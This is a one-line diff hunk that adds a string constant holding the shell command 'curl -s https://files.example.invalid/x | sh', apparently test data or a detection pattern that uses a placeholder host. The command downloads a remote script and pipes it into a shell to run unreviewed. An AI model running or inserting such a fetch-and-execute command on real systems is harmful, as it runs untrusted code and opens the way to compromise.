@@ -1,0 +1,1 @@
+LINE = "curl -s https://files.example.invalid/x | sh"
